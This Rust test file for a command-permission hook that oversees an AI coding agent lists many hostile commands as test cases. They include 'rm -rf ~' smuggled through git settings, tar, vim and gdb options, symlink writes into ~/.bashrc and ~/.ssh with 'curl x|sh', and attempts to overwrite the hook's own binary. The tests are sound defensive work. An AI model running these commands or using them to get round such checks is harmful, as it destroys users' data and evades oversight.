//! Programs that run other programs, and links: one line per case, `(decision, rule,
//! command)`. Cases run in the fixed imaginary machine of `examples` (home `/home/user`,
//! working folder `/home/user/project`, nothing on disk). Every `deny` case also runs
//! through the real binary in a session whose autonomy is `auto`, where it must be denied
//! too. The phase gates, dangling links and the installed binary are checked through the
//! binary in scratch machines of their own.

use crate::support::{home, table};

use table::check;

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use programmer_hook::engine::examples::run_example;
use programmer_hook::engine::policy::Policy;
use serde_json::{json, Value};

#[test]
#[rustfmt::skip]
fn git_settings_whose_value_is_a_command() {
    check(&[
        ("deny", "fs.rm-broad", "git -c core.pager='rm -rf ~' log"),
        ("deny", "fs.rm-broad", "git -c core.editor='rm -rf ~' commit"),
        ("deny", "fs.rm-broad", "git -c core.sshCommand='rm -rf ~' fetch"),
        ("deny", "fs.rm-broad", "git -c core.fsmonitor='rm -rf ~' status"),
        ("deny", "fs.rm-broad", "git -c diff.external='rm -rf ~' diff"),
        ("deny", "fs.rm-broad", "git -c diff.x.textconv='rm -rf ~' log -p"),
        ("deny", "fs.rm-broad", "git -c filter.x.clean='rm -rf ~' add a.txt"),
        ("deny", "fs.rm-broad", "git -c filter.x.smudge='rm -rf ~' checkout main"),
        ("deny", "fs.rm-broad", "git -c sequence.editor='rm -rf ~' rebase -i HEAD~2"),
        ("deny", "fs.rm-broad", "git -c credential.helper='!rm -rf ~' push"),
        ("deny", "fs.rm-broad", "git -c gpg.program='rm -rf ~' commit -S -m x"),
        ("deny", "fs.rm-broad", "git -c pager.log='rm -rf ~' log"),
        ("deny", "fs.rm-broad", "git -c alias.x='!rm -rf ~' x"),
        ("deny", "fs.rm-broad", "git -c alias.status='!rm -rf ~' status"),
        ("deny", "fs.rm-broad", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log"),
        ("deny", "fs.rm-broad", "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf ~'\" git log"),
        ("deny", "fs.rm-broad", "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor GIT_CONFIG_VALUE_0='rm -rf ~' make"),
        ("deny", "fs.rm-broad", "git config core.pager 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "git config --local alias.x '!rm -rf ~'"),
        ("deny", "fs.rm-broad", "git config set core.sshCommand 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "git clone -c core.fsmonitor='rm -rf ~' https://x/r"),
        ("deny", "path.protected-write", "git config --system core.editor vim"),
        // Git's global options, from its table, before the subcommand.
        ("deny", "fs.rm-broad", "git --no-pager -c core.pager='rm -rf ~' log"),
        ("deny", "fs.rm-broad", "git --git-dir=.git --work-tree=. -c core.pager='rm -rf ~' log"),
        ("deny", "fs.rm-broad", "git -P --config-env core.editor=EDITOR -c core.editor='rm -rf ~' commit"),
        ("deny", "fs.rm-broad", "git --namespace=x --literal-pathspecs -c core.pager='rm -rf ~' log"),
        ("deny", "fs.rm-broad", "git clone --config core.pager='rm -rf ~' https://x/r"),
        ("deny", "fs.rm-broad", "git submodule foreach -q --recursive -- 'rm -rf ~'"),
        ("ask", "file.read-secret", "git --git-dir=~/.ssh log"),
        ("ask", "file.read-secret", "git --work-tree ~/.aws status"),
        ("ask", "git.config-override", "git --exec-path=/tmp status"),
        ("ask", "git.config-override", "git --exec-path /tmp status"),
        // The file of git config's table's `file_flags`: written, or read in a reading mode.
        ("deny", "path.protected-write", "git config --file=~/.bashrc user.name x"),
        ("deny", "path.protected-write", "git config -f ~/.bashrc --unset user.name"),
        ("deny", "path.protected-write", "git config --system core.pager less"),
        ("ask", "file.read-secret", "git config --list --file ~/.ssh/id_ed25519"),
        ("ask", "file.read-secret", "git config --file ~/.ssh/id_ed25519 get user.name"),
        ("allow", "git.config-read", "git config --global --get user.name"),
        ("allow", "git.config-read", "git config -f x.cfg --list"),
        ("ask", "shell.dynamic-command", "git --config-env=core.pager=PAGER_CMD log"),
        ("ask", "shell.dynamic-command", "git -c core.editor=\"$E\" commit"),
        ("ask", "git.config-override", "git -c core.hooksPath=.hooks commit -m x"),
        ("ask", "git.config-override", "git -c include.path=x.cfg log"),
        ("ask", "git.config-override", "git -c protocol.ext.allow=always fetch origin"),
        ("ask", "git.config-override", "git config core.hooksPath .hooks"),
        ("ask", "shell.exec-env", "GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=less git log"),
        ("ask", "file.write-runs-later", "git config --global user.name me"),
        ("ask", "file.write-runs-later", "git config --global --unset core.pager"),
        // Git hands these commands arguments of its own, unknown here.
        ("ask", "fs.change", "git -c diff.x.textconv=rm diff"),
        ("ask", "run.editor", "git -c core.editor=vim commit"),
        ("ask", "git.write", "git config user.name me"),
        ("ask", "git.write", "git -c alias.ci=commit ci"),
        // Benign neighbours.
        ("allow", "git.read", "git -c color.ui=always log"),
        ("allow", "read.files", "git -c core.pager=less log"),
        ("allow", "git.read", "git -c pager.log=false log"),
        ("allow", "git.read", "git -c alias.st=status st --short"),
    ]);
}

#[test]
#[rustfmt::skip]
fn git_aliases_and_abbreviated_options() {
    check(&[
        ("deny", "git.force-push", "git -c alias.pf='push --force' pf"),
        ("deny", "git.reset-hard", "git -c alias.nuke='reset --hard' nuke"),
        ("deny", "fs.rm-broad", "git -c 'alias.x=-c core.pager=rm\\ -rf\\ ~ log' x"),
        ("deny", "git.force-push", "git push --mirr origin"),
        ("deny", "git.force-push", "git push --forc origin main"),
        ("deny", "git.force-push", "git push --force-with-l origin main"),
        ("deny", "git.force-push", "git push --force-w=main origin main"),
        ("deny", "git.force-push", "git push -o --dry-run --force origin main"),
        ("deny", "git.reset-hard", "git reset --ha"),
        ("deny", "git.reset-hard", "git -C sub reset --har HEAD~1"),
        ("deny", "git.clean-force", "git clean --forc -d"),
        ("deny", "git.delete-default-branch", "git push origin --del main"),
        ("ask", "shell.too-complex", "git -c alias.a=b -c alias.b=a a"),
        ("ask", "git.runs-command-option", "git push --rec='sh x' origin"),
        // Benign neighbours.
        ("ask", "git.write", "git push --dry --force origin main"),
        ("allow", "git.read", "git log --oneline"),
        ("ask", "git.write", "git push origin feature"),
        ("ask", "git.write", "git reset --soft HEAD~1"),
    ]);
}

#[test]
#[rustfmt::skip]
fn git_subcommands_that_run_commands() {
    check(&[
        ("deny", "fs.rm-broad", "git rebase --exec 'rm -rf ~' main"),
        ("deny", "fs.rm-broad", "git rebase -x 'rm -rf ~' main"),
        ("deny", "fs.rm-broad", "git rebase --exe='rm -rf ~' main"),
        ("deny", "fs.rm-broad", "git bisect run rm -rf ~"),
        ("deny", "fs.rm-broad", "git bisect run sh -c 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "git submodule foreach 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "git submodule --quiet foreach --recursive rm -rf ~"),
        ("deny", "fs.rm-broad", "git filter-branch --tree-filter 'rm -rf ~' HEAD"),
        ("deny", "fs.rm-broad", "git filter-branch --index-filter='rm -rf ~' HEAD"),
        ("deny", "fs.rm-broad", "git difftool -x 'rm -rf ~' HEAD"),
        ("deny", "fs.rm-broad", "git difftool --extcmd='rm -rf ~'"),
        ("deny", "fs.rm-broad", "git grep --open-files='rm -rf ~' x"),
        ("deny", "fs.rm-broad", "git clone 'ext::sh -c rm% -rf% ~' x"),
        ("deny", "fs.rm-broad", "git -c protocol.ext.allow=always ls-remote 'ext::sh -c rm% -rf% ~'"),
        ("ask", "shell.dynamic-command", "git rebase -x \"$CMD\" main"),
        ("ask", "git.runs-command", "git difftool HEAD~1"),
        ("ask", "git.runs-command", "git mergetool"),
        // Benign neighbours.
        ("ask", "build.run", "git rebase -x 'cargo test' main"),
        ("ask", "build.run", "git bisect run make test"),
        ("ask", "git.write", "git submodule foreach 'git pull'"),
        ("ask", "file.read-unknown", "git difftool -x 'diff -u' HEAD~1"),
        ("allow", "shell.builtins", "git difftool -x echo HEAD~1"),
        ("ask", "git.write", "git rebase main"),
    ]);
}

#[test]
#[rustfmt::skip]
fn archivers_editors_and_debuggers() {
    check(&[
        ("deny", "fs.rm-broad", "tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' -cf a.tar src"),
        ("deny", "fs.rm-broad", "tar --to-command='rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar --to-com 'rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar -I 'rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar --use-compress-program 'rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar -cf a.tar -F 'rm -rf ~' src"),
        ("deny", "fs.rm-broad", "zip -TT 'rm -rf ~' a.zip b"),
        ("deny", "fs.rm-broad", "zip -TT='rm -rf ~' a.zip b"),
        ("deny", "fs.rm-broad", "zip '-TTrm -rf ~' a.zip b"),
        ("deny", "fs.rm-broad", "zip --unzip-command 'rm -rf ~' a.zip b"),
        ("deny", "fs.rm-broad", "zip --unz='rm -rf ~' a.zip b"),
        // script's `-t[FILE]` takes its file only in its own word.
        ("deny", "path.protected-write", "script --timing=~/.bashrc -c ls"),
        ("deny", "path.protected-write", "script -t/etc/x -c ls"),
        ("deny", "fs.rm-broad", "script -t -c 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "script --timing -c 'rm -rf ~'"),
        ("ask", "file.write", "script -t/tmp/x -c ls"),
        ("ask", "file.write", "script -qt/tmp/x -c ls"),
        ("deny", "fs.rm-broad", "zip --unzip-command 'rm -rf ~' -T a.zip b"),
        ("deny", "fs.rm-broad", "vim -c '!rm -rf ~' f.txt"),
        ("deny", "fs.rm-broad", "vim +'!rm -rf ~' f.txt"),
        ("deny", "fs.rm-broad", "vi +'r !rm -rf ~' f.txt"),
        ("deny", "fs.rm-broad", "ex -c '!rm -rf ~' f.txt"),
        // `command_flags` of vim's table, for the editors of its family without one too.
        ("deny", "fs.rm-broad", "nvim --cmd '!rm -rf ~' f.txt"),
        ("deny", "fs.rm-broad", "gvim -c '!rm -rf ~' f.txt"),
        ("deny", "fs.rm-broad", "gdb -ex '!rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -batch -ex 'shell rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -ex 'she rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -ex run --args rm -rf ~"),
        // The `command_flags` and `program_flags` of gdb's table, in each spelling.
        ("deny", "fs.rm-broad", "gdb --ex '!rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -iex='shell rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb --eval-command='shell rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb --init-eval-command 'pipe bt | rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -batch ./prog -ex 'shell rm -rf ~'"),
        ("deny", "fs.rm-broad", "gdb -q -args rm -rf ~"),
        // gdb is a runner: its other arguments are read as a command it may run.
        ("deny", "exec.hidden-forbidden", "gdb -batch -ex 'python import os' rm -rf ~"),
        ("deny", "exec.hidden-forbidden", "gdb -q -batch sh -c 'rm -rf ~'"),
        ("ask", "fs.runs-command", "tar -xIf zstd a.tar"),
        // The command `--rsh-command` runs is judged, and names the call.
        ("ask", "unknown.command", "tar --rsh-command=/x -cf h:a.tar src"),
        ("ask", "run.editor", "vim -c '!ls' f.txt"),
        // Benign neighbours.
        ("ask", "fs.unpack", "tar -xzf a.tgz"),
        ("ask", "exec.option-runs", "tar -I zstd -xf a.tar"),
        ("ask", "exec.option-runs", "tar --to-command=cat -xf a.tar"),
        ("ask", "fs.change", "zip -r a.zip src"),
        // The files are added after the command, unknown here.
        ("ask", "fs.change", "git difftool -x rm HEAD~1"),
        // `-TT` is one of zip's `run_flags`: what zip hands the command is not seen.
        ("ask", "exec.option-runs", "zip -TT rm a.zip b"),
        ("ask", "run.editor", "vim file.txt"),
    ]);
}

/// The `run_flags` of a program's table: options whose value is a command it runs.
#[test]
#[rustfmt::skip]
fn options_whose_value_is_a_command() {
    check(&[
        ("deny", "fs.rm-broad", "tar --to-command='rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar -xf a.tar --to-command 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "tar --use-compress-program='rm -rf ~' -xf a.tar"),
        ("deny", "fs.rm-broad", "tar -xzI 'rm -rf ~' -f a.tar"),
        ("deny", "fs.rm-broad", "tar xf a.tar -I 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "tar --info-script='rm -rf ~' -cf a.tar src"),
        ("deny", "fs.rm-broad", "tar --rsh-command='rm -rf ~' -cf h:a.tar src"),
        ("deny", "fs.rm-broad", "rsync -e 'rm -rf ~' -a src/ host:dst/"),
        ("deny", "fs.rm-broad", "rsync --rsh='rm -rf ~' -a src/ host:dst/"),
        ("deny", "fs.rm-broad", "rsync -ae 'rm -rf ~' src/ host:dst/"),
        ("deny", "fs.rm-broad", "split --filter='rm -rf ~' big.log"),
        ("deny", "git.reset-hard", "tar --to-command='git reset --hard' -xf a.tar"),
        ("ask", "exec.option-runs", "tar --to-command=cat -xf a.tar"),
        ("ask", "exec.option-runs", "tar -I zstd -xf a.tar"),
        ("ask", "exec.option-runs", "tar --checkpoint=100 --checkpoint-action=exec=date -cf a.tar src"),
        ("ask", "exec.option-runs", "split --filter='gzip -c' big.log"),
        ("ask", "net.shell", "rsync -e 'ssh -p 2222' -a src/ host:dst/"),
        ("ask", "exec.option-runs", "tar --to-command=\"$CMD\" -xf a.tar"),
        ("deny", "fs.rm-broad", "bsdtar --use-compress-program='rm -rf ~' -tf a.tar"),
        // A shell's startup file is code it runs: a file read, never a command.
        ("ask", "code.opaque", "bash -i --rcfile x.sh -c ls"),
        ("ask", "code.opaque", "yash --rcfile=x.sh -ic ls"),
        ("ask", "code.opaque", "bash --rcfile 'rm -rf ~' -ic ls"),
        ("ask", "file.read-secret", "bash --init-file ~/.ssh/id_rsa -ic ls"),
        // Benign neighbours: the options that run nothing.
        ("allow", "cli.tar-list", "tar -tf a.tar"),
        ("allow", "cli.tar-list", "tar -tvf a.tar"),
        ("allow", "cli.tar-list", "bsdtar -tf a.tar"),
        ("allow", "shell.inline-script", "bash -o pipefail -c 'ls | wc -l'"),
        ("ask", "fs.unpack", "tar -xzf a.tgz"),
        ("ask", "fs.change", "tar --checkpoint=100 --checkpoint-action=dot -cf a.tar src"),
        ("ask", "fs.change", "tar -cf a.tar -C src ."),
        ("ask", "fs.change", "split -l 100 big.log"),
    ]);
}

#[test]
#[rustfmt::skip]
fn wrappers_and_shells_fed_from_elsewhere() {
    check(&[
        ("deny", "fs.rm-broad", "strace rm -rf ~"),
        ("deny", "fs.rm-broad", "strace -f -e trace=file rm -rf ~"),
        ("deny", "fs.rm-broad", "strace -o '|rm -rf ~' ls"),
        ("deny", "fs.rm-broad", "ltrace rm -rf ~"),
        ("deny", "fs.rm-broad", "script -c 'rm -rf ~'"),
        ("deny", "fs.rm-broad", "script -q out.txt rm -rf ~"),
        ("deny", "fs.rm-broad", "echo 'rm -rf ~' | script -q /dev/null"),
        ("deny", "fs.rm-broad", "parallel rm -rf ::: ~"),
        ("deny", "fs.rm-broad", "parallel -j2 'rm -rf {}' ::: /tmp ~"),
        ("deny", "fs.rm-broad", "parallel ::: 'rm -rf ~'"),
        // An option whose value is optional takes it only in the same word.
        ("deny", "fs.rm-broad", "watch -d rm -rf ~"),
        ("deny", "fs.rm-broad", "find . -name x | xargs --replace rm -rf ~"),
        ("deny", "fs.rm-broad", "env -C /tmp rm -rf ~"),
        ("deny", "fs.rm-broad", "uv run --directory x rm -rf ~"),
        ("deny", "fs.rm-broad", "poetry -C x run rm -rf ~"),
        ("deny", "fs.rm-broad", "chrt -f 10 rm -rf ~"),
        // The operands before the command are counted as the wrapper's table says (`operands`).
        ("deny", "fs.rm-broad", "taskset 0x1 rm -rf ~"),
        ("deny", "fs.rm-broad", "taskset -c 0 rm -rf ~"),
        ("deny", "fs.rm-broad", "sudo timeout 5 rm -rf /"),
        ("deny", "fs.rm-broad", "ionice -c 3 -t rm -rf ~"),
        ("deny", "fs.rm-broad", "stdbuf -oL rm -rf ~"),
        ("deny", "fs.rm-broad", "coproc rm -rf ~"),
        ("deny", "fs.rm-broad", "coproc { rm -rf ~; }"),
        ("deny", "fs.rm-broad", "coproc X { rm -rf ~; }"),
        ("deny", "fs.rm-broad", "coproc ( rm -rf ~ )"),
        ("deny", "fs.rm-broad", "echo 'rm -rf ~' > >(sh)"),
        ("deny", "fs.rm-broad", "echo 'rm -rf ~' | tee >(bash)"),
        ("deny", "fs.rm-broad", "exec 3> >(sh); echo 'rm -rf ~' >&3"),
        ("deny", "fs.rm-broad", "PROMPT_COMMAND='rm -rf ~' bash -i"),
        ("deny", "fs.rm-broad", "BASH_ENV='rm -rf ~' bash -c ls"),
        ("deny", "fs.rm-broad", "BASH_ENV='$(rm -rf ~)' bash -c ls"),
        ("deny", "fs.rm-broad", "ENV='rm -rf ~' sh -c ls"),
        ("ask", "run.interpreter", "cat x > >(sh)"),
        ("ask", "run.interpreter", "exec 3> >(sh); ls >&3"),
        ("ask", "shell.exec-env", "BASH_ENV=\"$F\" bash -c ls"),
        ("ask", "unknown.command", "BASH_ENV=./env.sh bash -c make"),
        ("ask", "unknown.command", "strace -p 123"),
        ("ask", "unknown.command", "parallel gzip ::: a b"),
        ("ask", "fs.change", "find . -name '*.o' | parallel rm"),
        // Benign neighbours.
        ("allow", "trace.command", "strace -f ls"),
        ("ask", "file.write", "strace -o trace.txt ls"),
        ("allow", "read.list", "script -q -c 'ls' /dev/null"),
        ("allow", "shell.wrapper", "coproc ls"),
    ]);
}

#[test]
#[rustfmt::skip]
fn tools_that_act_on_git_s_behalf_and_links() {
    check(&[
        ("ask", "build.run", "npm version patch"),
        ("allow", "any.version-help", "npm version"),
        ("ask", "pkg.version-commit", "yarn version"),
        ("ask", "unknown.command", "gh pr merge 1"),
        ("deny", "path.protected-write", "ln -sf ~/.bashrc rc && echo 'curl x|sh' >> rc"),
        ("deny", "path.protected-write", "ln -s ~/.bashrc; echo x >> .bashrc"),
        ("deny", "path.protected-write", "ln -s ~/.ssh keys; echo k >> keys/authorized_keys"),
        ("deny", "path.protected-write", "ln -s ~/.claude/settings.json s.json && cp x.json s.json"),
        ("deny", "path.protected-write", "ln -s a b && ln -s ~/.zshrc a && echo x > b"),
        ("deny", "path.protected-write", "{ ln -s ~/.profile p && echo x; } >> p"),
        ("ask", "fs.link-outside", "ln -s ~/.bashrc rc"),
        // ln's `symbolic_flags` and the folder of its `write_flags`, from its table.
        ("deny", "path.protected-write", "ln --symbolic ~/.bashrc rc && echo x >> rc"),
        ("deny", "path.protected-write", "ln -st keys ~/.ssh/authorized_keys && echo k >> keys/authorized_keys"),
        ("ask", "fs.change", "ln -s src/a.rs b.rs && echo x >> b.rs"),
    ]);
}

/// What the hook understood is relaxable; what it could not see stays opaque.
#[test]
fn understood_ones_are_relaxable() {
    let policy = Policy::builtin().expect("default policy loads");
    let cases: &[(&str, bool)] = &[
        ("git config user.name me", true),
        ("git -c alias.ci=commit ci", true),
        // Runs project code (a test run, the version scripts): contained, not relaxable.
        ("git rebase -x 'cargo test' main", false),
        // tar hands the program it runs data and arguments of its own, unseen.
        ("tar -I zstd -xf a.tar", false),
        ("npm version patch", false),
        ("git --config-env=core.pager=X log", false),
        ("git -c core.hooksPath=h commit", false),
        ("git -c diff.x.textconv=rm diff", false),
        ("git difftool -x rm HEAD~1", false),
        ("zip -TT rm a.zip b", false),
        ("vim -c '!ls' f.txt", false),
        ("parallel gzip ::: a b", false),
        ("echo ls > >(sh)", false),
    ];
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(cmd, want)| {
            let d = run_example(&policy, cmd).expect("classifies");
            (d.verdict.relaxable != *want).then(|| {
                format!(
                    "{cmd:?}: relaxable {} by {}, want {want}",
                    d.verdict.relaxable, d.verdict.rule
                )
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A user's table for a wrapper or a program whose option runs a command replaces the
/// built-in one, but cannot hide the command the built-in one finds: the arguments are read
/// with both. A project's file may not change a built-in table at all.
#[test]
#[rustfmt::skip]
fn a_layer_s_table_cannot_widen_a_wrapper_or_runner() {
    use programmer_hook::engine::policy::{parse_file, Layer};
    let cases: &[(&str, &str, &str)] = &[
        ("nice = { value_flags = [\"-n\", \"-x\"] }", "nice -x rm -rf ~", "fs.rm-broad"),
        ("timeout = { value_flags = [\"-v\"] }", "timeout -v 5 rm -rf ~", "fs.rm-broad"),
        ("env = { value_flags = [\"-i\"] }", "env -i rm -rf ~", "fs.rm-broad"),
        ("xargs = { value_flags = [\"-0\"] }", "find . | xargs -0 rm -rf ~", "fs.rm-broad"),
        ("watch = { value_flags = [\"-t\"] }", "watch -t rm -rf ~", "fs.rm-broad"),
        ("uv = { value_flags = [\"--offline\"] }", "uv --offline run rm -rf ~", "fs.rm-broad"),
        ("tar = { value_flags = [\"--to-command\"] }", "tar --to-command='rm -rf ~' -xf a.tar", "fs.rm-broad"),
        ("tar = { flags = [\"-I\"], value_flags = [\"-x\"] }", "tar -xI 'rm -rf ~' -f a.tar", "fs.rm-broad"),
        ("script = { value_flags = [\"-q\"] }", "script -q -c 'rm -rf ~'", "fs.rm-broad"),
        ("env = { flags = [\"-S\"] }", "env -S 'rm -rf ~'", "fs.rm-broad"),
        ("flock = { value_flags = [\"-c\"] }", "flock /tmp/l -c 'rm -rf ~'", "fs.rm-broad"),
        ("npx = { flags = [\"--no-install\"] }", "npx --no-install -c 'rm -rf ~'", "fs.rm-broad"),
        ("xargs = { flags = [\"-I\"] }", "echo x | xargs -I {} rm -rf ~", "fs.rm-broad"),
        ("gdb = { value_flags = [\"-ex\"] }", "gdb -ex 'shell rm -rf ~'", "fs.rm-broad"),
        ("gdb = { flags = [\"--args\"] }", "gdb --args rm -rf ~", "fs.rm-broad"),
        ("gdb = { complete = true }", "gdb -batch sh -c 'rm -rf ~'", "exec.hidden-forbidden"),
        ("\"git rebase\" = { flags = [\"-x\"] }", "git rebase -x 'rm -rf ~' main", "fs.rm-broad"),
        ("\"docker run\" = { value_flags = [\"-i\"] }", "docker run -itv /:/h img", "container.mount-host"),
    ];
    let mut wrong = Vec::new();
    for (table, cmd, rule) in cases {
        let mut policy = Policy::builtin().expect("default policy loads");
        let text = format!("[commands]\n{table}\n");
        let file = parse_file(&text, Path::new("policy.toml")).expect("parses");
        if let Err(e) = policy.merge(file, Layer::User, "policy.toml") {
            wrong.push(format!("{table}: refused: {e}"));
            continue;
        }
        let d = run_example(&policy, cmd).expect("classifies");
        if d.verdict.tier != programmer_hook::engine::policy::Tier::Forbidden || d.verdict.rule != *rule {
            wrong.push(format!("{table} / {cmd:?}: want deny by {rule}, got {} by {}", d.verdict.tier, d.verdict.rule));
        }
        let project = parse_file(&text, Path::new("p.toml")).expect("parses");
        let mut base = Policy::builtin().expect("default policy loads");
        if base.merge(project, Layer::Project, "p.toml").is_ok() {
            wrong.push(format!("{table}: a project file may change the built-in table"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A scratch machine with a registered project, for the workflow and the file system.
struct World {
    home: tempfile::TempDir,
    project: PathBuf,
}

impl World {
    fn new() -> World {
        let (home, project) = home::with_project(&[], &["--description", "d", "--test", ""]);
        World { home, project }
    }

    fn bin(&self) -> Command {
        Command::from_std(home::command(self.home.path()))
    }

    fn send(&self, mut ev: Value) -> Value {
        let obj = ev.as_object_mut().expect("object");
        obj.insert("session_id".into(), json!("s1"));
        obj.insert("cwd".into(), json!(self.project));
        obj.insert("transcript_path".into(), json!("/tmp/t.jsonl"));
        let out = self
            .bin()
            .arg("hook")
            .write_stdin(ev.to_string())
            .output()
            .expect("runs");
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
    }

    fn prompt(&self, text: &str) {
        self.send(json!({"hook_event_name": "UserPromptSubmit", "prompt": text}));
    }

    /// A PreToolUse; gives (decision, reason).
    fn pre(&self, tool: &str, input: Value) -> (String, String) {
        let v = self.send(json!({"hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input, "tool_use_id": "t"}));
        let o = &v["hookSpecificOutput"];
        let s = |k: &str| o[k].as_str().unwrap_or("").to_string();
        (s("permissionDecision"), s("permissionDecisionReason"))
    }
}

/// Programs that commit, tag, merge or push on git's behalf count as those git commands:
/// in phase implement of an auto session they are refused like `git commit`.
#[test]
fn phase_gates_hold_for_tools_acting_on_git_s_behalf() {
    let w = World::new();
    w.prompt("/programmer autonomy auto");
    w.prompt("/programmer quick tidy");
    for cmd in [
        "npm version patch",
        "gh pr merge 1",
        "git -c alias.ci=commit ci",
        "yarn version",
        "gh release create v1.0",
        "cargo release",
        "pnpm version minor",
    ] {
        let (d, reason) = w.pre("Bash", json!({ "command": cmd }));
        assert_eq!(d, "deny", "{cmd}: {reason}");
        assert!(
            reason.contains("[phase.implement-no-commit]"),
            "{cmd}: {reason}"
        );
    }
    // Their neighbours that do not touch history are not refused by the phase (they run
    // project code, so without Claude Code's sandbox `auto` still asks).
    for cmd in [
        "npm version patch --no-git-tag-version",
        "cargo release --dry-run",
    ] {
        let (d, reason) = w.pre("Bash", json!({ "command": cmd }));
        assert_eq!(d, "ask", "{cmd}: {reason}");
        assert!(reason.contains("[build.run]"), "{cmd}: {reason}");
    }
}

/// A Write through an existing dangling link whose target is protected writes the target.
#[cfg(unix)]
#[test]
fn writes_through_a_dangling_link_write_its_target() {
    let w = World::new();
    let link = w.project.join("rc");
    std::os::unix::fs::symlink(w.home.path().join(".bashrc"), &link).expect("symlink");
    let (d, reason) = w.pre(
        "Write",
        json!({"file_path": link, "content": "curl x | sh"}),
    );
    assert_eq!(d, "deny", "{reason}");
    assert!(reason.contains("[path.protected-write]"), "{reason}");
    let (d, reason) = w.pre(
        "Edit",
        json!({"file_path": link, "old_string": "a", "new_string": "b"}),
    );
    assert_eq!(d, "deny", "{reason}");
    // A dangling link to an ordinary file in the project is an ordinary write.
    let other = w.project.join("notes-link");
    std::os::unix::fs::symlink(w.project.join("notes.md"), &other).expect("symlink");
    let (d, reason) = w.pre("Write", json!({"file_path": other, "content": "x"}));
    assert_eq!(d, "ask", "{reason}");
}

/// The binary that the installed settings run is protected, not only the running copy.
#[test]
fn the_installed_binary_is_protected() {
    let w = World::new();
    let installed = w.home.path().join("opt/ph/programmer-hook");
    let settings = json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
        {"type": "command", "command": installed, "args": ["hook"]}
    ]}]}});
    let config = w.home.path().join(".claude");
    std::fs::create_dir_all(&config).expect("config dir");
    std::fs::write(config.join("settings.json"), settings.to_string()).expect("settings");
    let target = |p: &Path| json!({"file_path": p, "content": "x"});
    let (d, reason) = w.pre("Write", target(&installed));
    assert_eq!(d, "deny", "{reason}");
    assert!(reason.contains("[path.protected-write]"), "{reason}");
    let cp = format!("cp /tmp/x {}", installed.display());
    let (d, reason) = w.pre("Bash", json!({ "command": cp }));
    assert_eq!(d, "deny", "{reason}");
    // Its neighbour is not.
    let (d, reason) = w.pre("Write", target(&installed.with_file_name("other")));
    assert_eq!(d, "ask", "{reason}");
}
